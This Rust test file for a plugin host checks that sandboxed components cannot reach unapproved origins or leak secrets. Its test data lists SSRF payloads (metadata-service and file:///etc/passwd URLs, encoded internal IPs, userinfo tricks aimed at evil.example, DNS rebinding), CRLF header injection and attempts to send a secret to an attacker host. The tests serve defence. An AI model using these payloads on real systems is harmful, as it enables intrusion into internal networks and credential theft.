//! Cases 18 and 30: components that try to reach other origins or to leak a secret.

use std::collections::BTreeMap;
use std::net::IpAddr;
use std::sync::{Arc, Mutex};

use clawhost_plugins::{
    Answer, CallContext, HostOptions, InboundResponse, Network, NetworkError, OutboundRequest,
    Plugin, PluginHost,
};

use super::guest::{Guest, HTTP, store};
use super::hosting::{call, default_limits, granted, options, still_serves, trajectory};

/// A fake network: DNS answers, and the requests sent.
#[derive(Default)]
struct FakeNetwork {
    /// Addresses of each lookup in order; the last one repeats.
    names: Mutex<BTreeMap<String, Vec<Vec<&'static str>>>>,
    sent: Mutex<Vec<OutboundRequest>>,
    redirects: bool,
}

impl FakeNetwork {
    fn sent(&self) -> Vec<OutboundRequest> {
        self.sent.lock().unwrap().clone()
    }
}

impl Network for FakeNetwork {
    fn resolve(&self, name: String) -> Answer<Result<Vec<IpAddr>, String>> {
        let mut names = self.names.lock().unwrap();
        let addresses = names.get_mut(&name).map(|answers| {
            let now = answers[0].clone();
            if answers.len() > 1 {
                answers.remove(0);
            }
            now.iter().map(|address| address.parse().unwrap()).collect()
        });
        Box::pin(async move { addresses.ok_or_else(|| format!("{name} is not known")) })
    }

    /// Echoes the headers, or redirects.
    fn exchange(&self, request: OutboundRequest) -> Answer<Result<InboundResponse, NetworkError>> {
        let echo = format!("you sent {:?}", request.headers);
        let (status, headers) = if self.redirects {
            let elsewhere = "http://169.254.169.254/latest/meta-data".to_owned();
            (302, vec![("location".to_owned(), elsewhere)])
        } else {
            (200, request.headers.clone())
        };
        self.sent.lock().unwrap().push(request);
        Box::pin(async move {
            Ok(InboundResponse {
                status,
                headers,
                body: echo.into_bytes(),
            })
        })
    }
}

/// A judge that sends the request in its settings and returns the body with reward 1, or the error with -1.
fn http_judge() -> Guest {
    let setting = |at: u32, length: u32, to: u32| {
        format!("(call $take (i32.const {at}) (i32.const {length}) (i32.const {to}))")
    };
    let take = [
        setting(512, 6, 1040),
        setting(518, 3, 1048),
        setting(521, 4, 1056),
        setting(525, 5, 1064),
        setting(530, 4, 1072),
    ];
    let pair = |at: u32| {
        format!(
            "(i32.load (i32.const {at})) (i32.load (i32.const {}))",
            at + 4
        )
    };
    let tell = |reward: &str, at: u32| {
        format!(
            "(f32.store (i32.const 4) (f32.const {reward}))
             (i32.store (i32.const 20) (i32.load (i32.const {at})))
             (i32.store (i32.const 24) (i32.load (i32.const {})))",
            at + 4
        )
    };
    Guest::judge(&format!(
        "{} (call $send {} {} (i32.const 1056) (i32.ne (i32.load (i32.const 1060)) (i32.const 0)) {}
           (i32.const 1000) (i32.const 1104))
         (if (i32.load8_u (i32.const 1104))
           (then {})
           (else {}))
         (i32.const 0)",
        take.concat(),
        pair(1040),
        pair(1048),
        pair(1072),
        tell("-1", 1112),
        tell("1", 1120),
    ))
    .with_settings()
    .calling(
        HTTP,
        "send",
        "$send (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32)",
    )
    .data("methodurlnamevaluebody")
    .with(&format!(
        "(func $take (param $key i32) (param $length i32) (param $to i32)
           {} {} (call $setting (local.get $key) (local.get $length) (i32.const 1024))
           (i32.store (local.get $to) (i32.load (i32.const 1028)))
           (i32.store offset=4 (local.get $to) (i32.load (i32.const 1032))))",
        store(1028, 0),
        store(1032, 0)
    ))
}

/// The component's result: the body or the error.
async fn send(plugin: &Plugin, parts: &[(&str, &str)]) -> Result<String, String> {
    let mut settings = BTreeMap::from([("method".to_owned(), "POST".to_owned())]);
    for (part, text) in parts {
        settings.insert((*part).to_owned(), (*text).to_owned());
    }
    let context = CallContext {
        settings,
        ..call(default_limits())
    };
    let judged = plugin.score_turn(context, &trajectory("x"), 0).await;
    let verdict = judged.outcome.unwrap();
    if verdict.reward > 0.0 {
        Ok(verdict.rationale)
    } else {
        Err(verdict.rationale)
    }
}

fn online(network: FakeNetwork, arguments: &[&str]) -> (PluginHost, Arc<FakeNetwork>, Plugin) {
    let network = Arc::new(network);
    let host = PluginHost::new(HostOptions {
        network: Some(Arc::clone(&network) as _),
        ..options()
    })
    .unwrap();
    let plugin = granted(&host, "messenger", &http_judge(), arguments);
    (host, network, plugin)
}

fn names(known: &[(&str, &[&[&'static str]])]) -> FakeNetwork {
    let names = known.iter().map(|(name, answers)| {
        (
            (*name).to_owned(),
            answers.iter().map(|a| a.to_vec()).collect(),
        )
    });
    FakeNetwork {
        names: Mutex::new(names.collect()),
        ..FakeNetwork::default()
    }
}

#[tokio::test]
async fn case_18_no_url_spelling_dns_name_or_redirect_reaches_another_origin() {
    let known = names(&[
        ("api.example", &[&["93.184.215.14"]]),
        ("rebinding.example", &[&["93.184.215.14"], &["127.0.0.1"]]),
        ("inside.example", &[&["10.0.0.5"]]),
        ("metadata.example", &[&["169.254.169.254"]]),
        ("mapped.example", &[&["::ffff:127.0.0.1"]]),
        ("half.example", &[&["93.184.215.14", "::1"]]),
    ]);
    let origins = [
        "http=https://api.example",
        "http=http://10.1.2.3:8080",
        "http=https://rebinding.example",
        "http=https://inside.example",
        "http=https://metadata.example",
        "http=https://mapped.example",
        "http=https://half.example",
    ];
    let (host, network, plugin) = online(known, &origins);
    send(&plugin, &[("url", "https://API.example:443/v1")])
        .await
        .unwrap();
    send(&plugin, &[("url", "http://10.1.2.3:8080/")])
        .await
        .unwrap();
    let addresses: Vec<String> = network
        .sent()
        .iter()
        .map(|r| r.address.to_string())
        .collect();
    assert_eq!(addresses, ["93.184.215.14:443", "10.1.2.3:8080"]);

    for elsewhere in [
        "http://api.example/",
        "https://api.example:8443/",
        "https://api.example@evil.example/",
        "https://evil.example\\@api.example/",
        "https://api.example.evil.example/",
        "https://user:pass@api.example/",
        "http://10.1.2.3/",
        "http://0x0a010204:8080/",
        "http://[::ffff:10.1.2.3]:8080/",
        "http://169.254.169.254/latest/meta-data",
        "http://localhost/",
        "http://127.1/",
        "file:///etc/passwd",
        "https://inside.example/",
        "https://metadata.example/",
        "https://mapped.example/",
        "https://half.example/",
        "",
    ] {
        let heard = send(&plugin, &[("url", elsewhere)]).await;
        assert!(heard.is_err(), "{elsewhere}: {heard:?}");
    }
    for (name, value) in [
        ("x", "a\r\nhost: evil.example"),
        ("x\r\nhost", "evil.example"),
        ("Host", "evil.example"),
        ("Transfer-Encoding", "chunked"),
        ("Content-Length", "0"),
    ] {
        let parts = [
            ("url", "https://api.example/"),
            ("name", name),
            ("value", value),
        ];
        assert!(send(&plugin, &parts).await.is_err(), "{name:?}: {value:?}");
    }
    let tunnel = [("url", "https://api.example/"), ("method", "CONNECT")];
    assert!(send(&plugin, &tunnel).await.is_err());
    assert_eq!(network.sent().len(), 2, "no other request was sent");

    // DNS rebinding: the second lookup returns an internal address, but each exchange uses the checked address.
    let rebinding = [("url", "https://rebinding.example/")];
    send(&plugin, &rebinding).await.unwrap();
    let error = send(&plugin, &rebinding).await.unwrap_err();
    assert!(error.contains("127.0.0.1"), "{error}");
    assert_eq!(
        network.sent().last().unwrap().address.to_string(),
        "93.184.215.14:443"
    );

    // Redirects are returned, not followed.
    let leading = FakeNetwork {
        redirects: true,
        ..names(&[("api.example", &[&["93.184.215.14"]])])
    };
    let (_, network, plugin) = online(leading, &origins);
    send(&plugin, &[("url", "https://api.example/")])
        .await
        .unwrap();
    assert_eq!(network.sent().len(), 1);
    still_serves(&host).await;
}

#[tokio::test]
async fn case_30_secrets_are_sent_only_to_their_origin_and_redacted_in_responses() {
    // PATH, which every process has, serves as the secret.
    let secret = std::env::var("PATH").unwrap();
    let public: &[&[&'static str]] = &[&["93.184.215.14"]];
    let known = names(&[("api.example", public), ("evil.example", public)]);
    let (host, network, plugin) = online(
        known,
        &[
            "http=https://api.example",
            "http=https://evil.example",
            "secret=KEY:PATH@https://api.example",
        ],
    );
    let place = "{{secret:KEY}}";
    let api = ("url", "https://api.example/");
    let bearer = format!("Bearer {place}");
    let heard = send(
        &plugin,
        &[api, ("name", "Authorization"), ("value", &bearer)],
    )
    .await
    .unwrap();
    // The secret was sent, and its echo was redacted.
    let sent = network.sent();
    assert_eq!(
        sent[0].headers,
        [("authorization".to_owned(), format!("Bearer {secret}"))]
    );
    assert!(
        !format!("{:?}", sent[0]).contains(&secret),
        "nor is it logged"
    );
    assert!(heard.contains(place) && !heard.contains(&secret), "{heard}");

    let in_the_url = format!("https://api.example/?{place}");
    let evil = ("url", "https://evil.example/");
    let attempts: [&[(&str, &str)]; 8] = [
        &[("url", &in_the_url)],
        &[
            ("url", "https://api.example/?%7B%7Bsecret:KEY%7D%7D"),
            ("body", place),
        ],
        &[api, ("body", place)],
        &[api, ("name", place), ("value", "x")],
        &[evil, ("name", "Authorization"), ("value", &bearer)],
        &[api, ("name", "x"), ("value", "{{secret:PATH}}")],
        &[api, ("name", "x"), ("value", "{{secret:KEY")],
        &[
            api,
            ("name", "x"),
            ("value", "{{secret:KEY}}\r\nhost: evil.example"),
        ],
    ];
    for parts in attempts {
        let error = send(&plugin, parts).await.unwrap_err();
        assert!(!error.contains(&secret), "{error}");
    }
    // Split or encoded, an echo would not be recognised.
    let coding = [api, ("name", "Accept-Encoding"), ("value", "gzip")];
    assert!(send(&plugin, &coding).await.is_err());
    assert_eq!(network.sent().len(), 1, "no other request was sent");
    still_serves(&host).await;
}
